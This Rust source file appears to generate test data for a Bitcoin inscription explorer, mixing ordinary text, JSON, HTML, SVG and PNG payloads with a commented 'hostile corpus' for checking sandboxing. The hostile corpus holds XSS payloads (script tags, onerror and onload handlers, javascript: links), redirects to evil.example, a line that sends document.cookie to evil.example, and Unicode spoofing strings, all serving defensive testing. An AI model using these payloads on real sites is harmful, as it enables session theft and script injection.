//! The inscription corpus: ordinary payloads of every kind the explorer previews, and the hostile
//! ones it must survive. Every hostile item says what it attacks. Everything is deterministic.

use crate::png;

/// One inscription payload: its MIME type and its raw bytes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Payload {
    pub content_type: String,
    pub body: Vec<u8>,
}

impl Payload {
    /// A text/plain payload (a mined wish).
    pub fn text(body: &str) -> Self {
        Payload::new("text/plain", body)
    }

    fn new(content_type: &str, body: impl Into<Vec<u8>>) -> Self {
        Payload {
            content_type: content_type.to_string(),
            body: body.into(),
        }
    }
}

/// Size of the huge text inscription (1 MiB).
pub const HUGE_TEXT_LEN: usize = 1 << 20;

/// The hostile corpus (the 1 MiB text is separate: [`huge_text`]).
pub fn hostile() -> Vec<Payload> {
    vec![
        // Script injection: runs if the payload is ever put into the app document as HTML.
        Payload::new("text/html", "<script>alert(1)</script>"),
        // Event-handler injection without a <script> tag (bypasses naive script stripping).
        Payload::new("text/html", r#"<img src=x onerror="window.__pwned=1;alert(2)">"#),
        // javascript: URL in a link: executes if rendered as a live link outside a sandbox.
        Payload::new("text/html", r#"<a href="javascript:alert(3)">claim your prize</a>"#),
        // javascript: URL as plain text: attacks a UI that auto-links text.
        Payload::new("text/plain", "javascript:alert(3)"),
        // Top-level navigation from a frame (blocked unless the sandbox allows top navigation).
        Payload::new(
            "text/html",
            "<p>redirecting</p><script>top.location='https://evil.example'</script>",
        ),
        // Reaching into the parent document: works only with allow-same-origin.
        Payload::new("text/html", "<script>parent.document.body.innerHTML=''</script>"),
        // Storage of the embedding origin: an opaque-origin sandbox throws.
        Payload::new(
            "text/html",
            "<script>localStorage.setItem('pwned','1');window.__pwned=1</script>",
        ),
        // Cookie theft and exfiltration.
        Payload::new(
            "text/html",
            "<script>document.title=document.cookie;fetch('https://evil.example/?c='+encodeURIComponent(document.cookie))</script>",
        ),
        // Meta refresh: navigation without script.
        Payload::new(
            "text/html",
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example">"#,
        ),
        // SVG with an embedded <script>: runs if the SVG is inlined or opened as a document.
        Payload::new(
            "image/svg+xml",
            r#"<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>window.__pwned=1;alert(4)</script><rect width="64" height="64" fill="red"/></svg>"#,
        ),
        // SVG onload handler.
        Payload::new(
            "image/svg+xml",
            r#"<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1;alert(5)" width="64" height="64"><circle cx="32" cy="32" r="30" fill="purple"/></svg>"#,
        ),
        // Bidi overrides and isolates: spoof file names / reverse displayed text, and leak
        // direction into the surrounding UI if not isolated.
        Payload::new(
            "text/plain",
            "invoice\u{202E}fdp.exe \u{2066}isolate\u{2069} \u{2067}rtl\u{2069} \u{2068}first\u{2069} unterminated\u{202E}",
        ),
        // Zero-width characters and emoji ZWJ sequences: grapheme-unsafe truncation splits them.
        Payload::new(
            "text/plain",
            "family 👨\u{200D}👩\u{200D}👧\u{200D}👦 flag 🏳\u{FE0F}\u{200D}🌈 zw[\u{200B}\u{200C}\u{200D}\u{FEFF}] 👍🏽 🇨🇭",
        ),
        // Combining marks ("zalgo"): glyphs that overflow their line box vertically.
        Payload::new(
            "text/plain",
            "Z\u{0351}\u{0360}\u{0362}\u{0489}a\u{0300}\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}l\u{0337}\u{0338}\u{0339}\u{033A}g\u{034E}\u{034F}\u{0350}o\u{0363}\u{0364}\u{0365}\u{0366}\u{0367}\u{0368}",
        ),
        // Control characters (C0, DEL, NEL): terminal/log injection and broken text nodes.
        Payload::new("text/plain", {
            let mut s: String = (0u8..0x20).map(char::from).collect();
            s.push_str("\u{7F}\u{85} after-controls \x1b[31mred\x1b[0m\r\nCRLF");
            s
        }),
        // Invalid UTF-8 labelled text/plain: overlong, truncated, surrogate and out-of-range bytes.
        Payload::new(
            "text/plain",
            b"valid start \xff\xfe \xc3\x28 \xed\xa0\x80 \xf8\x88\x80\x80\x80 \xe2\x82 end".to_vec(),
        ),
        // JSON carrying HTML in a string: dangerous if a JSON viewer renders values as HTML.
        Payload::new(
            "application/json",
            r#"{"p":"brc-20","op":"mint","tick":"<script>alert(6)</script>","amt":"1000","note":"<img src=x onerror=alert(6)>"}"#,
        ),
        // Markdown with raw HTML and a javascript: link: dangerous if rendered with raw HTML on.
        Payload::new(
            "text/markdown",
            "# Hello\n\n<script>alert(7)</script>\n\n<img src=x onerror=\"window.__pwned=1\">\n\n[click](javascript:alert(7))\n\n<iframe src=\"https://evil.example\"></iframe>\n",
        ),
        // One unbroken 6,000-character line: horizontal overflow of cards and previews.
        Payload::new("text/plain", "W".repeat(6000)),
        // Invisible (default-ignorable) characters that disguise words: "pay<ZWSP>pal" looks like
        // "paypal" but is not, and copies or searches differently; also the joiners and selectors
        // outside the few places real text needs them (emoji sequences, Persian, Indic).
        Payload::text(INVISIBLE_TEXT),
    ]
}

/// The hostile text of invisible characters (the explorer must show none of them; the e2e
/// suite looks for its first words).
pub const INVISIBLE_TEXT: &str = "Invisible: pay\u{200B}pal pay\u{200D}pal pay\u{200C}pal \
    word\u{2060}joiner in\u{2061}\u{2062}\u{2063}\u{2064}visible bom\u{FEFF}middle \
    filler\u{3164}\u{FFA0} hangul\u{115F}\u{1160}fillers mongolian\u{180E}separator \
    soft\u{AD}hyphen cg\u{34F}j khmer\u{17B4}\u{17B5}vowels \
    tags\u{E0001}\u{E0074}\u{E0061}\u{E0067}\u{E007F}end shorthand\u{1BCA0}\u{1BCA3}format \
    selector\u{FE0F}x unassigned\u{FFF0}\u{E0FFF}end. Kept: 👨\u{200D}👩\u{200D}👧 می\u{200C}خواهم";

/// A 1 MiB text inscription: memory, layout and "no server truncation" stress.
pub fn huge_text() -> Payload {
    let mut s = String::with_capacity(HUGE_TEXT_LEN + 80);
    let mut n = 0u32;
    while s.len() < HUGE_TEXT_LEN {
        s.push_str(&format!(
            "line {n:06}: the quick brown fox jumps over the lazy dog\n"
        ));
        n += 1;
    }
    s.truncate(HUGE_TEXT_LEN);
    Payload::new("text/plain", s)
}

const WORDS: &[&str] = &[
    "bitcoin",
    "block",
    "satoshi",
    "ordinal",
    "wish",
    "stargate",
    "genesis",
    "timechain",
    "hash",
    "witness",
    "taproot",
    "merkle",
    "nonce",
    "miner",
    "halving",
    "inscription",
    "rune",
    "sat",
    "mempool",
    "fee",
    "utxo",
    "script",
    "pixel",
    "moon",
    "hello",
    "world",
    "explorer",
    "rail",
];

fn words(seed: u64, n: usize) -> String {
    let mut r = seed;
    (0..n)
        .map(|_| {
            r = splitmix(r);
            WORDS[(r % WORDS.len() as u64) as usize]
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// SplitMix64 step (the generator's only source of "randomness").
pub fn splitmix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// An ordinary (benign) payload; `seed` picks the kind and the content.
pub fn ordinary(seed: u64, height: u32) -> Payload {
    let r = splitmix(seed);
    match r % 6 {
        0 => Payload::new("text/plain", format!("{} #{height}", words(r, 4 + (r >> 8) as usize % 12))),
        1 => Payload::new(
            "text/markdown",
            format!(
                "# Block {height}\n\n* {}\n* **{}**\n\n> {}\n",
                words(r ^ 1, 3),
                words(r ^ 2, 2),
                words(r ^ 3, 8)
            ),
        ),
        2 => Payload::new(
            "application/json",
            format!(
                r#"{{"p":"brc-20","op":"mint","tick":"{}","amt":"{}","height":{height}}}"#,
                &words(r, 1)[..4.min(words(r, 1).len())],
                (r >> 16) % 10_000
            ),
        ),
        3 => Payload::new(
            "text/html",
            format!(
                "<!doctype html><html><body style=\"background:#{:06x}\"><h1>{}</h1><p>{}</p></body></html>",
                (r >> 8) & 0xff_ffff,
                words(r ^ 5, 2),
                words(r ^ 6, 10)
            ),
        ),
        4 => Payload::new(
            "image/svg+xml",
            format!(
                r##"<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64"><rect width="64" height="64" fill="#{:06x}"/><circle cx="32" cy="32" r="{}" fill="#{:06x}"/><text x="4" y="60" font-size="10">{height}</text></svg>"##,
                (r >> 8) & 0xff_ffff,
                8 + (r >> 40) % 22,
                (r >> 32) & 0xff_ffff
            ),
        ),
        _ => {
            let side = 16 + ((r >> 20) % 4) as u32 * 8;
            Payload::new("image/png", png::pattern(side, side, (r >> 12) as u8, r))
        }
    }
}

/// How many of the newest heights carry the hostile corpus.
pub const HOSTILE_TOP: u32 = 20;

/// The payload of inscription `slot` in the generated block at `height` (chain tip `tip`).
/// The top [`HOSTILE_TOP`] blocks carry the whole hostile corpus (one or two items each, and the
/// 1 MiB text at `tip - 3`); a few deeper blocks (height % 97 == 13) carry one hostile item too.
pub fn for_slot(height: u32, tip: u32, slot: usize, seed: u64) -> Payload {
    let corpus = hostile();
    let n = corpus.len() as u32;
    if height + HOSTILE_TOP > tip {
        let depth = tip - height;
        if slot == 0 {
            return corpus[(depth % n) as usize].clone();
        }
        if slot == 1 && depth + HOSTILE_TOP < n {
            return corpus[(depth + HOSTILE_TOP) as usize].clone();
        }
        if slot == 2 && depth == 3 {
            return huge_text();
        }
    } else if height % 97 == 13 && slot == 0 {
        return corpus[((height / 97) % n) as usize].clone();
    }
    ordinary(seed, height)
}

/// Number of slots [`for_slot`] needs at `height` at least (so the forced items fit).
pub fn min_slots(height: u32, tip: u32) -> usize {
    if height + HOSTILE_TOP > tip {
        let depth = tip - height;
        if depth == 3 {
            3
        } else if depth + HOSTILE_TOP < hostile().len() as u32 {
            2
        } else {
            1
        }
    } else {
        1
    }
}

/// Is this MIME type shown as text (its body goes into `content`)?
pub fn is_text(content_type: &str) -> bool {
    let ct = content_type.to_ascii_lowercase();
    ct.starts_with("text/") || ct.starts_with("application/json")
}

/// Is this MIME type an image (thumbnail candidate, `filter=image`)?
pub fn is_image(content_type: &str) -> bool {
    content_type.to_ascii_lowercase().starts_with("image/")
}

/// File extension for a MIME type (`inscription_<n>.<ext>`).
pub fn extension(content_type: &str) -> &'static str {
    let ct = content_type.to_ascii_lowercase();
    let base = ct.split(';').next().unwrap_or("").trim();
    match base {
        "text/plain" => "txt",
        "text/markdown" => "md",
        "text/html" => "html",
        "application/json" => "json",
        "image/svg+xml" => "svg",
        "image/png" => "png",
        "image/jpeg" => "jpg",
        "image/gif" => "gif",
        "image/webp" => "webp",
        _ => "bin",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_has_every_attack_kind() {
        let all = hostile();
        let text = |p: &Payload| String::from_utf8_lossy(&p.body).into_owned();
        assert!(all.iter().any(|p| text(p) == "<script>alert(1)</script>"));
        assert!(all
            .iter()
            .any(|p| text(p).contains("onerror=\"window.__pwned=1;alert(2)\"")));
        assert!(all
            .iter()
            .any(|p| text(p).contains("top.location='https://evil.example'")));
        assert!(all.iter().any(|p| text(p).contains("\u{202E}")));
        assert!(all
            .iter()
            .any(|p| text(p).contains("pay\u{200B}pal") && text(p).contains("\u{E007F}")));
        assert!(all.iter().any(|p| std::str::from_utf8(&p.body).is_err()));
        assert!(all
            .iter()
            .any(|p| p.content_type == "image/svg+xml" && text(p).contains("onload")));
        assert_eq!(huge_text().body.len(), HUGE_TEXT_LEN);
    }

    #[test]
    fn top_blocks_carry_the_whole_corpus() {
        let tip = 300;
        let mut seen = Vec::new();
        for h in tip + 1 - HOSTILE_TOP..=tip {
            for slot in 0..min_slots(h, tip) {
                seen.push(for_slot(h, tip, slot, 7));
            }
        }
        for item in hostile() {
            assert!(seen.contains(&item), "missing {:?}", item.content_type);
        }
        assert!(seen.iter().any(|p| p.body.len() == HUGE_TEXT_LEN));
    }

    #[test]
    fn ordinary_covers_all_kinds() {
        let kinds: std::collections::BTreeSet<String> =
            (0..200u64).map(|s| ordinary(s, 5).content_type).collect();
        assert_eq!(kinds.len(), 6, "{kinds:?}");
    }
}
